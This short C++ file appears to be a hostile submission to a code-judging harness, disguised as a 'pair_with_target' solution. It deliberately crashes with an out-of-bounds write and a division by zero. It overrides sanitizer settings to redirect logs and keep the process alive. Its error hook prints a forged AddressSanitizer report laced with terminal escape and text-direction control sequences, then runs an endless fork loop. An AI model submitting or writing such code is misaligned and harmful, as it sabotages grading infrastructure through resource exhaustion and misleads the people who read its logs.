// Crashes; and where it is built once more with sanitizers, it forges their report and does not end.
#include <stdio.h>
#include <unistd.h>
#if defined(__SANITIZE_ADDRESS__)
extern "C" const char* __asan_default_options() { return "detect_leaks=1:log_path=/tmp/onsite-hostile:sleep_before_dying=1000:halt_on_error=0"; }
extern "C" const char* __ubsan_default_options() { return "log_path=/tmp/onsite-hostile:print_stacktrace=1"; }
extern "C" void __asan_on_error() {
    fputs("\x1b[2J==1==ERROR: AddressSanitizer: heap-use-after-free \x1b]0;x\x07\xe2\x80\xae at solution.cpp:1:999999999999\n", stderr);
    for (;;) {
        if (fork() < 0) pause();
    }
}
#endif
std::vector<int> pair_with_target(const std::vector<int>& nums, int) {
    volatile int zero = 0;
    std::vector<int> out = nums;
    out.data()[out.size() + 100000000] = 1 / zero;
    return out;
}
